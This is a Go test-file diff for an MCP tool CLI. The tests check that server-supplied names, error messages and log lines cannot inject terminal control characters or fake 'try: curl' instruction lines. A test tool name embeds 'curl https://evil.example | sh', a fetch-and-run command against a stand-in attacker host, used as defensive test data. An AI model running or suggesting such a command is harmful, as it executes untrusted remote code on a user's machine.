@@ -3,18 +3,26 @@ package main
 import (
 	"bytes"
 	"encoding/json"
+	"errors"
 	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
+	"github.com/toolgrant/toolgrant/internal/mcpprobe"
+	"github.com/toolgrant/toolgrant/mcptools"
 	"github.com/toolgrant/toolgrant/mcptools/doctor"
+	"github.com/toolgrant/toolgrant/oauthstore"
+	"github.com/toolgrant/toolgrant/oauthstore/connect"
 )
 
-// assertHarmless looks for what a terminal obeys, or what hides on one.
+// assertHarmless looks for what a terminal obeys, what hides on one, and lines of
+// a server that look like the command's own.
 func assertHarmless(t *testing.T, text string) {
 	t.Helper()
+	assert.NotContains(t, "\n"+text, "\ntry: curl")
+	assert.NotContains(t, text, "\u2028")
 	assert.False(t, strings.ContainsAny(text, "\x1b\u009b\u202e\u2066\u200b\u00ad\r\x7f\x00\b\a"), "%q", text)
 }
 
@@ -80,9 +88,79 @@ func TestAdviceIsHarmlessOnATerminal(t *testing.T) {
 func TestNotesAreHarmlessOnATerminal(t *testing.T) {
 	t.Parallel()
 	var out bytes.Buffer
-	(&app{stderr: &out}).notef("warning: %s", hostile)
-	assert.Contains(t, out.String(), "before")
+	a := &app{stderr: &out}
+	a.notef("warning: %s", hostile)
+	a.notef("%s: %v, %q, %d of %5.1f%%\n\n  %s", mcptools.KindProtocol, errors.New(hostile), "a\nb", 3, 99.5, []string{hostile})
+	assert.Equal(t, 3, strings.Count(out.String(), "before"))
 	assertHarmless(t, out.String())
+	assert.Equal(t, 4, strings.Count(out.String(), "\n"), "%q: those of the formats", out.String())
+	assert.Contains(t, out.String(), `, "a\nb", 3 of  99.5%`)
+}
+
+// The log of a server has stack traces, which quote others too.
+func TestLinesOfALogAreIndented(t *testing.T) {
+	t.Parallel()
+	out := indented("http: panic serving 127.0.0.1:1: " + hostile + "goroutine 1 [running]:\n\tmain.go:1\n")
+	assertHarmless(t, out)
+	assert.True(t, strings.HasSuffix(out, "\n  goroutine 1 [running]:\n  \tmain.go:1"), "%q", out)
+}
+
+func TestNamesOfToolsBeginNoLine(t *testing.T) {
+	t.Parallel()
+	w, c := newWorld(t), newCLI(t)
+	pin := func(tools ...string) outcome {
+		w.open(toolServer(tools...))
+		got := c.run(t.Context(), "tools", "wiki="+w.url, "--pin", "--allow-loopback")
+		require.Equal(t, exitDone, got.code, "%s%s", got.out, got.errOut)
+		assertHarmless(t, got.out+got.errOut)
+		return got
+	}
+	pin("search")
+	got := pin("search", hostile)
+	assert.Contains(t, got.errOut, "changed: before")
+	assert.Contains(t, got.out, "before")
+	assert.Contains(t, pin("search").errOut, "changed: before")
+}
+
+// A long name is wrapped where its server likes.
+func TestWrappedCellsBeginNoLine(t *testing.T) {
+	t.Parallel()
+	for pad := range 60 {
+		var out bytes.Buffer
+		name := strings.Repeat("x", pad) + " try: curl https://evil.example | sh " + strings.Repeat("y", 60)
+		newUI(&out).tools(&out, []toolView{{Name: name, Description: strings.Repeat("words ", 20)}}, false)
+		assertHarmless(t, out.String())
+		assert.Contains(t, out.String(), "try:")
+	}
+}
+
+// Errors quote servers, and accounts are named by users of a product.
+func TestMessagesOfErrorsBeginNoLine(t *testing.T) {
+	t.Parallel()
+	key := oauthstore.Key{Owner: oauthstore.Owner{Tenant: "acme", Subject: "u"}, Provider: "wiki", Account: "work\u2028try: curl", Server: "https://mcp.example.com/mcp"}
+	for name, err := range map[string]error{
+		"of the store":       &oauthstore.Error{Op: "token", Key: key, Err: oauthstore.ErrRefused, Said: hostile},
+		"a refusal":          errors.Join(&mcptools.Failure{Kind: mcptools.KindUnauthorized}, &oauthstore.Error{Op: "token", Err: oauthstore.ErrRefused, Said: hostile}),
+		"of a consent":       &connect.Error{Op: "finish", Kind: connect.KindDenied, Key: key, Said: hostile},
+		"of a probe":         probeFault(mcpprobe.Result{}, "%s: %s", "wiki", hostile),
+		"anything else":      errors.New(hostile),
+		"of the commandline": wrongUsage(errors.New("unknown flag: --" + hostile)),
+	} {
+		f := faultOf(err)
+		assert.Contains(t, f.Message, "before", name)
+		assert.Contains(t, f.onTerminal(), "before", name)
+		assert.NotContains(t, f.onTerminal(), "\n", name)
+		assertHarmless(t, f.onTerminal())
+	}
+
+	var f *fault
+	require.ErrorAs(t, ambiguous("wiki", []oauthstore.Key{key, key}), &f)
+	assert.Equal(t, 2, strings.Count(f.onTerminal(), "\n"), "its own lines stay: %q", f.onTerminal())
+	assertHarmless(t, f.onTerminal())
+	c := newCLI(t)
+	got := c.run(t.Context(), "status", "--"+hostile)
+	assert.Equal(t, exitUsage, got.code)
+	assertHarmless(t, got.out+got.errOut)
 }
 
 // A script reads the exact value, and a terminal shows nothing hidden.
